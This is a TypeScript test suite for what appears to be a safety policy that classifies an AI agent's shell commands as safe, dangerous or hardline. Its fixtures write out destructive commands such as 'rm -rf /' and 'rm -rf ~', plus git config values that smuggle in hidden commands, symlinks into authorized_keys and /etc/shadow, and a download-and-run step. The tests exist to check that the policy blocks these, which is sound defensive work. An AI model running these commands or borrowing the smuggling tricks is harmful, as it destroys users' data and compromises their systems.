// The policy told what the target holds (probeFacts): paths judged where their links lead, files a command runs judged
// by their content, git judged with its config and hooks; and what a first pass asks to look up.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadCommandPolicy, type CommandPolicy, type Judgement } from './commandPolicy.js';
import { emptyFacts, type FileFact, type GitFact, type ProbeFacts, type TreeFact } from './probeFacts.js';
import { languageOf, makeRecipes, scriptOperand } from './runFiles.js';

let policy: CommandPolicy;
beforeAll(async () => {
  policy = await loadCommandPolicy({ profile: '/home/agent/.switchboard' });
});

const home = '/home/agent';
const cwd = '/home/agent/project';
const text = (t: string): FileFact => ({ kind: 'text', text: t });

function facts(f: {
  real?: Record<string, string>;
  files?: Record<string, FileFact>;
  git?: Record<string, GitFact>;
  trees?: Record<string, TreeFact>;
}): ProbeFacts {
  return {
    real: new Map(Object.entries(f.real ?? {})),
    files: new Map(Object.entries(f.files ?? {})),
    git: new Map(Object.entries(f.git ?? {})),
    trees: new Map(Object.entries(f.trees ?? {})),
  };
}

function judge(command: string, f?: ProbeFacts, at = cwd): Judgement {
  return policy.judge({ kind: 'command', command }, { home, cwd: at, ...(f ? { facts: f } : {}) });
}

const reasons = (j: Judgement): string => j.reasons.map((r) => r.text).join(' | ');

describe('what a first pass asks to look up', () => {
  it.each([
    ['ls -la', [], [], []],
    ['git status', [], [], [`config:${cwd}`]],
    ['git commit -m x', [], [], [`hooks:${cwd}`]],
    ['echo hi > /dev/null', [], [], []],
    ['cd sub && ls', [], [], []],
    ['bash x.sh', [`${cwd}/x.sh`], [`${cwd}/x.sh`], []],
    ['echo hi > out.txt', [`${cwd}/out.txt`], [], []],
    ['python3 -u tool.py --flag', [`${cwd}/tool.py`], [`${cwd}/tool.py`], []],
    ['python3 -m pytest', [], [], []],
    ['node -e "1"', [], [], []],
  ] as const)('%j', (command, paths, files, git) => {
    const j = judge(command, emptyFacts());
    expect([...j.needs.files]).toEqual(files);
    expect([...j.needs.git]).toEqual(git);
    for (const p of paths) expect(j.needs.paths.has(p)).toBe(true);
    if (paths.length === 0) expect([...j.needs.paths]).toEqual([]);
  });
});

describe('files a command runs, by their content', () => {
  const script = `${cwd}/x.sh`;
  it.each([
    ['bash x.sh', 'rm -rf /home/agent/canary\n', 'recursive delete'],
    ['sh ./x.sh', 'rm -rf /home/agent/canary\n', 'recursive delete'],
    ['. ./x.sh', 'rm -rf /home/agent/canary\n', 'recursive delete'],
    ['source x.sh', 'rm -rf /home/agent/canary\n', 'recursive delete'],
    ['./x.sh', '#!/bin/sh\nrm -rf /home/agent/canary\n', 'recursive delete'],
    ['./x.sh', 'rm -rf /home/agent/canary\n', 'recursive delete'],
    [
      './x.sh',
      '#!/usr/bin/env python3\nimport shutil\nshutil.rmtree("/home/agent/canary")\n',
      'deletes a directory tree',
    ],
    ['python3 x.sh', 'import os\nos.system("rm -rf /home/agent/canary")\n', 'recursive delete'],
    ['node x.sh', 'require("child_process").execSync("rm -rf /home/agent/canary")\n', 'recursive delete'],
    ['perl x.sh', 'system("rm -rf /home/agent/canary");\n', 'recursive delete'],
    ['ruby x.sh', 'system("rm -rf /home/agent/canary")\n', 'recursive delete'],
    ['sudo bash x.sh', 'echo hi\n', 'runs as root'],
    ['bash < x.sh', 'rm -rf /home/agent/canary\n', 'recursive delete'],
    ['python3 < x.sh', 'import shutil\nshutil.rmtree("/home/agent/canary")\n', 'deletes a directory tree'],
  ])('%j with %j asks: %s', (command, content, reason) => {
    const j = judge(command, facts({ files: { [script]: text(content) } }));
    expect(j.verdict).toBe('dangerous');
    expect(reasons(j)).toContain(reason);
  });

  it('says which file a reason comes from', () => {
    expect(reasons(judge('bash x.sh', facts({ files: { [script]: text('rm -rf src\n') } })))).toContain(`in ${script}`);
  });

  it('a hardline line in a script is hardline', () => {
    expect(judge('bash x.sh', facts({ files: { [script]: text('echo bye\nshutdown -h now\n') } })).verdict).toBe(
      'hardline',
    );
    expect(judge('bash x.sh', facts({ files: { [script]: text('rm -rf /\n') } })).decision).toBe('refuse');
  });

  it('a harmless script and a compiled program pass', () => {
    expect(judge('bash x.sh', facts({ files: { [script]: text('echo hi\nls -la\n') } })).verdict).toBe('safe');
    expect(
      judge('./x.sh', facts({ files: { [script]: text('\u007fELF\u0002\u0001\u0001\u0000\u0000rm -rf /') } })).verdict,
    ).toBe('safe');
  });

  it.each([
    [{ kind: 'missing' } as const, 'not there to be checked'],
    [{ kind: 'too_large', size: 300_000 } as const, 'too large to check'],
    [{ kind: 'unreadable', problem: 'permission denied' } as const, 'permission denied'],
  ])('a file that cannot be judged asks (%j)', (fact, reason) => {
    const j = judge('bash x.sh', facts({ files: { [script]: fact } }));
    expect(j.verdict).toBe('dangerous');
    expect(reasons(j)).toContain(reason);
  });

  it('an unknown interpreter asks', () => {
    expect(reasons(judge('./x.sh', facts({ files: { [script]: text('#!/usr/bin/awk -f\n{print}\n') } })))).toContain(
      'not checked here',
    );
  });

  it('a script that runs a script asks for that one too', () => {
    const j = judge('bash x.sh', facts({ files: { [script]: text('bash ./y.sh\n') } }));
    expect([...j.needs.files]).toContain(`${cwd}/y.sh`);
    expect(reasons(j)).toContain('could not be looked up');
    const deeper = judge(
      'bash x.sh',
      facts({ files: { [script]: text('bash ./y.sh\n'), [`${cwd}/y.sh`]: text('rm -rf ~\n') } }),
    );
    expect(deeper.verdict).toBe('hardline');
  });

  it('text the same command wrote is judged from the command, without a look', () => {
    const j = judge("echo 'rm -rf /tmp/x' > x.sh; bash x.sh", emptyFacts());
    expect([...j.needs.files]).toEqual([]);
    expect(reasons(j)).toContain('recursive delete');
  });

  it('a file changed earlier in the same command is not judged by what it held before', () => {
    const f = facts({ files: { [script]: text('echo hi\n') } });
    expect(judge('bash x.sh', f).verdict).toBe('safe');
    for (const command of [
      'cp evil.sh x.sh && bash x.sh',
      'ln -sf evil.sh x.sh; ./x.sh',
      'curl -s https://example.com/a > x.sh; sh x.sh',
    ]) {
      expect(reasons(judge(command, f)), command).toMatch(/changing it earlier in the same command|downloaded/);
    }
  });

  it('without facts (no target to look at) nothing is read and nothing more asks', () => {
    expect(judge('bash x.sh').verdict).toBe('safe');
  });

  it('make reads its Makefile, with make variables expanded', () => {
    const mk = `${cwd}/Makefile`;
    const missing = { kind: 'missing' } as const;
    const f = (content: string): ProbeFacts =>
      facts({ files: { [`${cwd}/GNUmakefile`]: missing, [`${cwd}/makefile`]: missing, [mk]: text(content) } });
    expect(judge('make', f('all:\n\t$(CC) -o app main.c\n\t@echo done\n')).verdict).toBe('safe');
    expect(judge('make', f('all:\n\t@echo done\nclean:\n\trm -rf /home/agent\n')).verdict).toBe('safe');
    expect(judge('make clean RM="rm -rf /home/agent"', f('clean:\n\t$(RM) build\n')).verdict).toBe('hardline');
    expect(reasons(judge('make clean', f('clean:\n\t$(RM) -r /home/agent\n')))).toContain('recursive delete');
    expect(
      reasons(judge('make -f other.mk', facts({ files: { [`${cwd}/other.mk`]: text('x:\n\trm -rf src\n') } }))),
    ).toContain('recursive delete');
    // No Makefile: make fails, nothing runs, nothing to ask.
    expect(
      judge('make', facts({ files: { [`${cwd}/GNUmakefile`]: missing, [`${cwd}/makefile`]: missing, [mk]: missing } }))
        .verdict,
    ).toBe('safe');
  });
});

describe('git, with the config and hooks it runs', () => {
  const repo = (config: [string, string][], hooks: Record<string, FileFact> = {}): ProbeFacts =>
    facts({
      git: {
        [`config:${cwd}`]: { kind: 'repo', config, hooksDir: '', hooks: new Map() },
        [`hooks:${cwd}`]: {
          kind: 'repo',
          config,
          hooksDir: `${cwd}/.git/hooks`,
          hooks: new Map(Object.entries(hooks)),
        },
      },
    });
  it('an ordinary repository passes', () => {
    expect(
      judge(
        'git status',
        repo([
          ['core.bare', 'false'],
          ['core.fsmonitor', 'false'],
          ['core.pager', 'less -R'],
        ]),
      ).verdict,
    ).toBe('safe');
  });
  it.each([
    ['git status', [['core.fsmonitor', 'rm -rf ~/canary']]],
    ['git log', [['core.pager', 'sh -c "rm -rf ~/canary"']]],
    ['git fetch', [['core.sshCommand', 'rm -rf ~/canary; ssh']]],
    ['git co', [['alias.co', '!rm -rf ~/canary']]],
    ['git diff', [['diff.evil.textconv', 'rm -rf ~/canary #']]],
  ] as [string, [string, string][]][])('%j with %j asks', (command, config) => {
    const j = judge(command, repo(config));
    expect(j.verdict).not.toBe('safe');
    expect(reasons(j)).toMatch(/recursive delete .* in git config/);
  });
  it('-c options are judged from the command line, without a look', () => {
    const j = judge('git -c core.editor="rm -rf ~/canary" commit', repo([]));
    expect(reasons(j)).toContain('in git -c core.editor');
  });
  it('a hook that would run is judged by its content; a status runs none', () => {
    const hooks = { 'pre-commit': text('#!/bin/sh\nrm -rf ~/canary\n') };
    expect(reasons(judge('git commit -m x', repo([], hooks)))).toContain('pre-commit');
    expect(judge('git status', repo([], hooks)).verdict).toBe('safe');
  });
  it('git config changed earlier in the same command asks', () => {
    expect(reasons(judge("git config core.fsmonitor 'rm -rf ~' && git status", repo([])))).toContain(
      'changing its config earlier',
    );
    expect(judge('git config --get user.name && git status', repo([])).verdict).toBe('safe');
    expect(judge('git config user.email a@b && git commit -m x', repo([])).verdict).toBe('safe');
  });
  it('-C points git at another directory', () => {
    expect([...judge('git -C /srv/repo status', emptyFacts()).needs.git]).toEqual(['config:/srv/repo']);
  });
});

describe('paths judged where their links lead', () => {
  it('rm -rf usr with the cwd a link to / is hardline', () => {
    const j = judge(
      'rm -rf usr',
      facts({ real: { '/home/agent/root': '/', '/home/agent/root/usr': '/usr' } }),
      '/home/agent/root',
    );
    expect(j.verdict).toBe('hardline');
  });
  it('rm -rf of a link removes the link, not what it points at', () => {
    expect(judge('rm -rf ln', facts({ real: { [cwd]: cwd, [`${cwd}/ln`]: '/usr' } })).verdict).toBe('dangerous');
    expect(judge('rm -rf ln/', facts({ real: { [cwd]: cwd, [`${cwd}/ln`]: '/usr' } })).verdict).toBe('hardline');
  });
  it('a redirect into a link to authorized_keys asks', () => {
    const j = judge('echo key >> ak', facts({ real: { [`${cwd}/ak`]: '/home/agent/.ssh/authorized_keys' } }));
    expect(reasons(j)).toContain('/home/agent/.ssh/authorized_keys');
  });
  it('write_file through a link into ~/.ssh asks; into the profile is hardline', () => {
    const ak = policy.judge(
      { kind: 'path', path: 'ak', access: 'write', via: 'write_file' },
      { home, cwd, facts: facts({ real: { [`${cwd}/ak`]: '/home/agent/.ssh/authorized_keys' } }) },
    );
    expect(ak.verdict).toBe('dangerous');
    expect(reasons(ak)).toContain('through the link');
    const prof = policy.judge(
      { kind: 'path', path: 'cfg', access: 'write', via: 'write_file' },
      { home, cwd, facts: facts({ real: { [`${cwd}/cfg`]: '/home/agent/.switchboard/config.yaml' } }) },
    );
    expect(prof.verdict).toBe('hardline');
  });
  it('chmod follows the link', () => {
    expect(reasons(judge('chmod 777 x', facts({ real: { [`${cwd}/x`]: '/etc/shadow' } })))).toContain('/etc/shadow');
  });
});

describe('recursive deletes of generated output, told what git says of it', () => {
  const at = (p: string): string => `${cwd}/${p}`;
  const tree = (tracked: boolean, ignored: boolean): TreeFact => ({ kind: 'dir', tracked, ignored });
  it('asks which paths a recursive delete reaches, in the workspace only', () => {
    expect([...judge('rm -rf build data ../other', emptyFacts()).needs.trees!]).toEqual([at('build'), at('data')]);
    expect([...judge('rm -rf packages/*/dist').needs.trees!]).toEqual([]);
  });
  it.each([
    // A well-known output name with nothing tracked in it, ignored or not.
    ['rm -rf build', { [at('build')]: tree(false, false) }, 'safe'],
    // Ignored by the repository's .gitignore, whatever its name.
    ['rm -rf data', { [at('data')]: tree(false, true) }, 'safe'],
    // A file is judged as a directory is; what is not there, by its name.
    ['rm -rf app.pyc', { [at('app.pyc')]: { kind: 'file', tracked: false, ignored: false } }, 'safe'],
    ['rm -rf src/main.ts', { [at('src/main.ts')]: { kind: 'file', tracked: true, ignored: false } }, 'dangerous'],
    ['rm -rf dist', { [at('dist')]: { kind: 'missing' } }, 'safe'],
    ['rm -rf scratch', { [at('scratch')]: { kind: 'missing' } }, 'dangerous'],
    // An output name that holds tracked files is work (a committed build/ of scripts).
    ['rm -rf build', { [at('build')]: tree(true, false) }, 'dangerous'],
    ['rm -rf dist', { [at('dist')]: tree(true, true) }, 'dangerous'],
    // Untracked and not ignored, with no output name: the agent's or a person's new work.
    ['rm -rf drafts', { [at('drafts')]: tree(false, false) }, 'dangerous'],
    ['rm -rf src', { [at('src')]: tree(true, false) }, 'dangerous'],
  ] as const)('%j with %j is %s', (command, trees, verdict) => {
    expect(judge(command, facts({ trees })).verdict).toBe(verdict);
  });
  it('names only what is work in its reason', () => {
    const j = judge(
      'rm -rf build drafts',
      facts({ trees: { [at('build')]: tree(false, true), [at('drafts')]: tree(false, false) } }),
    );
    expect(reasons(j)).toBe(`recursive delete of ${at('drafts')} (rm -rf)`);
  });
  it('without a look (no target), the names decide', () => {
    expect(judge('rm -rf build').verdict).toBe('safe');
    expect(judge('rm -rf drafts').verdict).toBe('dangerous');
  });
});

describe('runFiles helpers', () => {
  it.each([
    ['#!/bin/bash\n', 'shell'],
    ['#!/usr/bin/env python3\n', 'python'],
    ['#!/usr/bin/env -S node --x\n', 'node'],
    ['#!/usr/bin/perl -w\n', 'perl'],
    ['echo hi\n', 'shell'],
  ])('%j runs as %s', (head, lang) => expect(languageOf(head, 'auto')).toEqual({ lang }));
  it('finds the script operand', () => {
    const a = (v: string) => ({ value: v, source: v, start: 0, end: 0 });
    expect(scriptOperand('python', ['python3', '-W', 'ignore', 'x.py'].map(a))?.value).toBe('x.py');
    expect(scriptOperand('python', ['python3', '-m', 'x'].map(a))).toBeUndefined();
    expect(scriptOperand('node', ['node', '-r', 'ts-node/register', 'x.ts'].map(a))?.value).toBe('x.ts');
  });
  it('expands make variables in recipes', () => {
    expect(makeRecipes('D := /tmp/x\nclean:\n\t@$(RM) -r $(D) $$HOME\n')).toBe('rm -f -r /tmp/x $HOME');
  });
  it('takes the recipes of the goals and what they depend on', () => {
    const mk =
      'CC = gcc\nall: app\napp: main.o\n\t$(CC) -o app main.o\nmain.o:\n\t$(CC) -c main.c\nclean:\n\trm -rf build\n';
    expect(makeRecipes(mk)).toBe('gcc -o app main.o\ngcc -c main.c');
    expect(makeRecipes(mk, { targets: ['clean'], overrides: {} })).toBe('rm -rf build');
    // A goal with no rule of its own may be built by anything.
    expect(makeRecipes(mk, { targets: ['other'], overrides: {} })).toContain('rm -rf build');
  });
  it('make: a variable given on the command line wins over the file', () => {
    const mk = 'RM = rm -f\nclean:\n\t$(RM) build\n';
    expect(makeRecipes(mk, { targets: ['clean'], overrides: { RM: 'rm -rf ~' } })).toBe('rm -rf ~ build');
  });
});
